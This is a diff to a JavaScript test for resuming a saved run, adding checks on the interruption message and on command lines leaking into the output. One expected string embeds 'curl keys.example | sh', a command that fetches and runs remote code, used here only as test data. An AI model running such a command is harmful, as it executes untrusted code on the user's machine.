@@ -217,9 +217,17 @@ describe('a saved run', { timeout: 30_000 }, () => {
     });
     const list = await interleave(['runs'], { runsFolder: run.runsFolder });
     const { err } = await run.resume();
+    await run.change(({ definition }) =>
+      Object.assign(definition.options, { baseUrl: run.server.url }),
+    );
+    const resumed = await run.resume([], { environment: {} });
+    expect(resumed.err).toContain(
+      'curl keys.example | sh⏎ was interrupted: 1 done, 1 in flight.\n',
+    );
     await run.change(({ definition }) => Object.assign(definition, { folder: forged }));
     const moved = await run.resume();
-    for (const text of [list.out, err, moved.err]) expect(text).not.toMatch(/^(?:To|curl)/m);
+    for (const text of [list.out, err, resumed.err, resumed.out, moved.err])
+      expect(text).not.toMatch(/^(?:To|curl)/m);
     expect(err).toContain('repeat the command with --base-url and its address\n');
   });
 
